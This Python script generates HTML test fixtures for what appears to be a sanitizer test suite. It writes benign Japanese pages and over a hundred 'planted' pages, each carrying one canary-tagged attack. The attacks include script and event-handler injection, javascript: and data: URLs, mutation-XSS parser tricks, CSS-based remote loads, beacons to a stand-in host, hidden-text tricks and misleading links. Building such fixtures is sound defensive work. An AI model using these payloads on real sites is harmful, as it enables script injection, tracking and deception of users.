#!/usr/bin/env python3
"""Make the HTML samples: samples/{benign,planted}/html.

Standard library only, same bytes on every run. Each planted sample holds one
construct that must not survive, with a canary of its own (C is replaced by
SEKISHO-CANARY-html-NAME). J is a script that would change the page and ask a
server for the canary: a browser shows whether it ran.
"""
import base64
import os
import struct
import sys
import zlib

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "samples")


def save(kind, name, data):
    folder = os.path.join(ROOT, kind, "html")
    os.makedirs(folder, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(text=None):
    rows = b"".join(b"\0" + bytes((x * 16, y * 16, 128)[i] for x in range(8) for i in range(3)) for y in range(8))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)) +
            (chunk(b"tEXt", b"Comment\0" + text) if text else b"") +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def data_url(data, mime="image/png"):
    return "data:%s;base64,%s" % (mime, base64.b64encode(data).decode())


def page(body, head=""):
    return ('<!DOCTYPE html>\n<html lang="ja"><head><meta charset="utf-8"><title>見本</title>%s</head>\n'
            "<body>%s</body></html>\n" % (head, body))


BENIGN = {
    "notice": page('<h1>お知らせ</h1><p>SEKISHO-BENIGN-notice 明日は<strong>休館日</strong>です。</p>'
                   '<ul><li>一階</li><li>二階<ol start="3"><li>図書室</li></ol></li></ul><hr>'
                   '<p><a href="https://www.example.jp/a?b=1&amp;c=2">詳しくはこちら</a></p>'),
    "table": page('<table border="1"><caption>料金表</caption><tr><th>区分</th><th>金額</th></tr>'
                  '<tr><td>大人</td><td align="right">1,000円</td></tr>'
                  '<tr><td>SEKISHO-BENIGN-table</td><td>500円</td></tr></table>'),
    "ruby": page("<p><ruby>漢字<rp>(</rp><rt>かんじ</rt><rp>)</rp></ruby>SEKISHO-BENIGN-ruby 10<sup>3</sup> "
                 "H<sub>2</sub>O 髙﨑①㈱</p><blockquote>引用<blockquote>孫引き</blockquote></blockquote>"
                 "<pre>\n  字下げ\n\tタブ\n</pre>"),
    "picture": page('<p>SEKISHO-BENIGN-picture <img src="%s" alt="絵" width="8" height="8"></p>' % data_url(png())),
    "styles": page('<p class="a">SEKISHO-BENIGN-styles 赤い</p><div id="b"><span>青い</span></div>',
                   '<style>.a{color:red;font-size:12pt} #b > span{color:#00f;font-family:"ＭＳ ゴシック",monospace}</style>'),
    "word": '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv=Content-Type '
            'content="text/html; charset=utf-8"><style><!-- p.MsoNormal{margin:0mm;text-align:justify;'
            'font-size:10.5pt;font-family:"游明朝",serif;mso-pagination:none} @page S{size:595pt 842pt} -->'
            '</style></head><body lang=JA><div class=S><p class=MsoNormal><span lang=EN-US>SEKISHO-BENIGN-word'
            "<o:p></o:p></span></p><p class=MsoNormal>本文です。<o:p>&nbsp;</o:p></p></div></body></html>\n",
    "old": '<HTML><HEAD><TITLE>昔のページ</TITLE></HEAD><BODY BGCOLOR=#FFFFFF TEXT=black><CENTER><FONT SIZE=+2 COLOR=red>'
           "SEKISHO-BENIGN-old</FONT></CENTER><P>段落<P>次<BR>行<DL><DT>語<DD>説明</DL><TABLE><TR><TD>左<TD>右</TABLE>",
    "soup": "<p><b>太い<i>両方</b>斜め</i><table>外<tr><td>中</table><a href='https://a.example/'>一<a "
            "href='https://b.example/'>二</a></a><div><p>SEKISHO-BENIGN-soup<div>閉じない",
}

TEXT_JA = ("<html><head><meta http-equiv='Content-Type' content='text/html; charset=%s'><title>文字</title></head>"
           "<body><p>SEKISHO-BENIGN-%s 日本語の文書です。カタカナ、ひらがな、漢字。</p></body></html>\n")

J = "document.title='C';new Image().src='http://canary.example/C'"

PLANTED = {
    # Scripts and what calls them.
    "script": "<script>J</script>",
    "script-src": "<script src='http://canary.example/C.js'></script>",
    "script-split": "<scr<script>ipt>J</scr</script>ipt>",
    "script-case": "<ScRiPt\n>J</sCrIpT\t>",
    "script-slash": "<script/x=1>J</script>",
    "onload": "<body onload=\"J\">",
    "onerror": "<img src=x onerror=\"J\">",
    "onerror-slash": "<img/src=x/onerror=J>",
    "onerror-quote": "<img src='x'onerror='J'>",
    "onerror-tick": "<img src=`x` onerror=\"J\" alt=``>",
    "ontoggle": "<details open ontoggle=\"J\">x</details>",
    "onfocus": "<a id=x tabindex=1 onfocus=\"J\" autofocus>x</a>",
    "onanimation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=\"J\">x",
    "onbegin": "<svg><animate onbegin=\"J\" attributeName=x dur=1s>",
    "href-javascript": "<a href=\"javascript:J\">x</a>",
    "href-tab": "<a href=\"java&Tab;script&colon;J\">x</a>",
    "href-newline": "<a href=\"java\nscript:J\">x</a>",
    "href-control": "<a href=\"&#1;javascript:J\">x</a>",
    "href-data": "<a href=\"data:text/html,<script>J</script>\">x</a>",
    "href-vbscript": "<a href='vbscript:C'>x</a>",
    "href-file": "<a href='file:////host/C'>x</a>",
    "href-unc": "<a href='\\\\host\\C'>x</a>",
    "href-scheme-relative": "<a href='//canary.example/C'>x</a>",
    "href-user": "<a href='https://www.example.jp@canary.example/C'>x</a>",
    "href-search-ms": "<a href='search-ms:query=C'>x</a>",
    "area": "<img usemap=#m><map name=m><area shape=default href=\"javascript:J\"></map>",
    # What loads.
    "img-remote": "<img src='http://canary.example/C.png'>",
    "img-srcset": "<img srcset='http://canary.example/C.png 1x'>",
    "img-pixel": "<img src='http://canary.example/C' width=1 height=1>",
    "img-unc": "<img src='\\\\127.0.0.1\\C\\x.png'>",
    "img-lowsrc": "<img lowsrc='http://canary.example/C' dynsrc='http://canary.example/C'>",
    "picture-source": "<picture><source srcset='http://canary.example/C'><img></picture>",
    "input-image": "<input type=image src='http://canary.example/C'>",
    "body-background": "<body background='http://canary.example/C'>",
    "td-background": "<table><td background='http://canary.example/C'>x</table>",
    "link-sheet": "<link rel=stylesheet href='http://canary.example/C.css'>",
    "link-prefetch": "<link rel=prefetch href='http://canary.example/C'>",
    "link-dns": "<link rel=dns-prefetch href='//C.invalid'>",
    "link-office": "<link rel=Edit-Time-Data href='C/editdata.mso'>",
    "base": "<base href='http://canary.example/C/'><a href='x'>x</a><img src=y>",
    "refresh": "<meta http-equiv=refresh content=\"0;url=http://canary.example/C\">",
    "refresh-data": "<meta http-equiv='refresh' content='0;url=data:text/html,C'>",
    "set-cookie": "<meta http-equiv=set-cookie content='C=1'>",
    "csp": "<meta http-equiv=content-security-policy content='report-uri http://canary.example/C'>",
    "generator": "<meta name=generator content='C'>",
    "iframe": "<iframe src='http://canary.example/C'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>J</script>\"></iframe>",
    "frameset": "<frameset><frame src='http://canary.example/C'></frameset>",
    "object": "<object data='http://canary.example/C'><param name=movie value=C></object>",
    "embed": "<embed src='http://canary.example/C'>",
    "applet": "<applet code=C archive='http://canary.example/C'></applet>",
    "video": "<video poster='http://canary.example/C'><source src='http://canary.example/C'></video>",
    "audio": "<audio src='http://canary.example/C' autoplay onplay=\"J\"></audio>",
    "bgsound": "<bgsound src='http://canary.example/C'>",
    "form": "<form action='http://canary.example/C'><input name=C type=password><button formaction=\"javascript:J\">x</button></form>",
    "isindex": "<isindex action='http://canary.example/C' type=image src=x onerror=\"J\">",
    "html-import": "<link rel=import href='http://canary.example/C'>",
    "portal": "<portal src='http://canary.example/C'></portal>",
    "ping": "<a href='https://www.example.jp/' ping='http://canary.example/C'>x</a>",
    "manifest": "<html manifest='http://canary.example/C'>",
    # Styles.
    "css-url": "<p style=\"background:url(http://canary.example/C)\">x",
    "css-url-escape": "<p style=\"background:\\75 rl(http://canary.example/C)\">x",
    "css-url-comment": "<p style=\"background:ur/**/l(http://canary.example/C)\">x",
    "css-import": "<style>@import 'http://canary.example/C';</style>",
    "css-import-escape": "<style>@\\69mport 'http://canary.example/C';</style>",
    "css-font": "<style>@font-face{font-family:x;src:url(http://canary.example/C)}</style><p style='font-family:x'>x",
    "css-list": "<ul style=\"list-style:url('http://canary.example/C')\"><li>x</ul>",
    "css-content": "<style>p::before{content:url(http://canary.example/C)}</style><p>x",
    "css-cursor": "<p style='cursor:url(http://canary.example/C),auto'>x",
    "css-image-set": "<p style=\"background-image:image-set('http://canary.example/C' 1x)\">x",
    "css-attr": "<style>a[href^='x']{background:url(http://canary.example/C)}</style><a href='https://x.example/'>x</a>",
    "css-expression": "<p style=\"width:expression(J)\">x",
    "css-behavior": "<p style=\"behavior:url(http://canary.example/C)\">x",
    "css-binding": "<p style=\"-moz-binding:url(http://canary.example/C#x)\">x",
    "css-overlay": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9;content:\"C\"'>x</div>",
    "css-close": "<p style=\"font-family:'</style><script>J</script>'\">x",
    "css-media": "<style>@media (min-width:1px){p{background:url(http://canary.example/C)}}</style><p>x",
    # Readers that differ: what one takes for text another takes for a tag.
    "mxss-noscript": "<noscript><p title=\"</noscript><img src=x onerror='J'>\">",
    "mxss-title": "<title><a title='</title><img src=x onerror=\"J\">'>",
    "mxss-style": "<style><a title='</style><img src=x onerror=\"J\">'></style>",
    "mxss-textarea": "<textarea><a title='</textarea><img src=x onerror=\"J\">'>",
    "mxss-xmp": "<xmp><a title='</xmp><img src=x onerror=\"J\">'>",
    "mxss-iframe": "<iframe><a title='</iframe><img src=x onerror=\"J\">'>",
    "mxss-noembed": "<noembed><a title='</noembed><img src=x onerror=\"J\">'>",
    "mxss-noframes": "<noframes><a title='</noframes><img src=x onerror=\"J\">'>",
    "mxss-plaintext": "<plaintext><a title='</plaintext><img src=x onerror=\"J\">'>",
    "mxss-comment": "<!--><img src=x onerror=\"J\">-->",
    "mxss-comment-bang": "<!--x--!><img src=x onerror=\"J\">-->",
    "mxss-cdata": "<svg><![CDATA[><img src=x onerror=\"J\">]]>",
    "mxss-math-style": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror='J'&gt;\">",
    "mxss-form-math": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=\"J\">",
    "mxss-svg-style": "<svg></p><style><a id=\"</style><img src=x onerror='J'>\">",
    "mxss-svg-desc": "<svg><desc><style><img src=x onerror=\"J\"></style></desc></svg>",
    "mxss-annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=\"J\"></style></annotation-xml></math>",
    "mxss-foreign-object": "<svg><foreignObject><iframe srcdoc=\"<script>J</script>\"></foreignObject></svg>",
    "mxss-template": "<template><script>J</script></template><template><img src=x onerror=\"J\"></template>",
    "mxss-select": "<select><template><style><a></select><img src=x onerror=\"J\">",
    "mxss-nested-form": "<form id=a><div></form><form id=b><input onfocus=\"J\" autofocus>",
    "mxss-table-foster": "<table><a href=x><tr><td><a href=\"javascript:J\"><img src=x onerror=\"J\"></table>",
    "mxss-attribute": "<p title='&quot;&gt;&lt;img src=x onerror=J&gt;'>x<img alt='\"><img src=x onerror=J>'>",
    "mxss-attribute-slash": "<p a='x'/onmouseover=\"J\"/b>x",
    "mxss-null": "<scr\0ipt>J</scr\0ipt><img src=x on\0error=\"J\">",
    "mxss-processing": "<?xml version='1.0'?><?php C ?><p>x",
    "mxss-namespace": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>J</x:script>",
    "mxss-svg-a": "<svg><a xlink:href=\"javascript:J\"><text>x</text></a></svg>",
    "mxss-svg-use": "<svg><use href=\"data:image/svg+xml;base64,C\"></use></svg>",
    "mxss-isindex": "<isindex prompt='<img src=x onerror=J>'>",
    "mxss-image": "<image src=x onerror=\"J\">",
    "mxss-marquee": "<marquee onstart=\"J\">x</marquee>",
    "mxss-keygen": "<keygen autofocus onfocus=\"J\">",
    "mxss-custom": "<x-a onclick=\"J\" is=C>x</x-a><slot name=C>y</slot>",
    "mxss-clobber": "<a id=body></a><img name=getElementById><form name=C id=cookie></form>",
    "mxss-depth": "<div>" * 300 + "<img src=x onerror=\"J\">",
    # What Office and old browsers read.
    "conditional": "<!--[if gte mso 9]><xml><w:C/></xml><![endif]--><p>x",
    "conditional-ie": "<!--[if IE]><script>J</script><![endif]-->",
    "conditional-down": "<![if !vml]><img src='http://canary.example/C'><![endif]>",
    "office-xml": "<xml><o:OfficeDocumentSettings>C</o:OfficeDocumentSettings></xml><p>x",
    "vml": "<v:shape><v:imagedata src='http://canary.example/C'/></v:shape>",
    "formula-attribute": "<table><td x:fmla='=C'>1</td></table>",
    # Hidden from the reader.
    "hidden-display": "<p style='display:none'>C</p>",
    "hidden-class": "<style>.h{display:none}</style><p class=h>C</p>",
    "hidden-selector": "<style>div p > b{visibility:hidden}</style><div><p><b>C</b></div>",
    "hidden-white": "<p style='color:white'>C</p>",
    "hidden-near-white": "<table bgcolor='#ffffff'><td><font color='#fefefd'>C</font></table>",
    "hidden-size": "<p style='font-size:0'>C</p>",
    "hidden-font": "<p style='font:0/0 a'>C</p>",
    "hidden-opacity": "<p style='opacity:.01'>C</p>",
    "hidden-height": "<div style='height:0;overflow:hidden'>C</div>",
    "hidden-off": "<div style='position:absolute;left:-5000px'>C</div>",
    "hidden-indent": "<p style='text-indent:-9999px'>C</p>",
    "hidden-clip": "<p style='position:absolute;clip:rect(0 0 0 0)'>C</p>",
    "hidden-mso": "<p style='mso-hide:all'>C</p>",
    "hidden-attribute": "<p hidden>C</p>",
    "hidden-alpha": "<p style='color:rgba(0,0,0,0)'>C</p>",
    "comment": "<p>x<!-- C --></p>",
    "data-attribute": "<p data-x='C'>x</p>",
    "picture-metadata": "<img src='%s'>",
    "picture-svg": "<img src='%s'>",
}

# Here the canary stays as a text that everybody sees: only a browser can tell.
SHOWN = ("script-split", "mxss-namespace", "mxss-null", "mxss-plaintext")

LINKS = {
    "link-misleading": "<a href='https://C.example/'>https://www.city.example.lg.jp/</a>",
    "link-idn": "<a href='https://xn--r8jz45g.jp/C'>www.例え.com</a>",
}


def fill(name, body):
    canary = "SEKISHO-CANARY-html-" + name
    if name == "picture-metadata":
        return body % data_url(png(canary.encode()))
    if name == "picture-svg":
        return body % data_url(("<svg xmlns='http://www.w3.org/2000/svg'><script>%s</script></svg>" % canary).encode(),
                               "image/svg+xml")
    out = []
    for i, c in enumerate(body):
        alone = not (i > 0 and body[i - 1].isalnum()) and not (i + 1 < len(body) and body[i + 1].isalnum())
        out.append(J.replace("'C'", "'%s'" % canary).replace("/C'", "/%s'" % canary) if c == "J" and alone
                   else canary if c == "C" and alone else c)
    return "".join(out)


def main():
    for name, data in BENIGN.items():
        save("benign", name + ".html", data)
    for label, codec in (("Shift_JIS", "cp932"), ("EUC-JP", "euc_jp"), ("ISO-2022-JP", "iso2022_jp"), ("UTF-8", "utf-8")):
        save("benign", "charset-%s.html" % codec.replace("_", "-"), (TEXT_JA % (label, codec)).encode(codec))
    save("benign", "charset-none.html", (TEXT_JA % ("x", "none")).replace("; charset=x", "").encode("cp932"))
    save("benign", "charset-utf16.html", b"\xff\xfe" + (TEXT_JA % ("utf-16", "utf16")).encode("utf-16-le"))
    rows = []
    for name, body in sorted({**PLANTED, **LINKS}.items()):
        whole = fill(name, body)
        if not body.startswith(("<html", "<body", "<frameset")):
            whole = "<!DOCTYPE html>\n<html><body><p>SEKISHO-BODY</p>" + whole + "\n"
        save("planted", name + ".html", whole)
        rows.append(name)
    if "--rows" in sys.argv:
        for name in rows:
            gone = "-" if name in SHOWN or name in LINKS else "SEKISHO-CANARY-html-" + name
            print("planted/html/%s.html\thtml\treleased\t-\t%s\t-" % (name, gone))


if __name__ == "__main__":
    main()
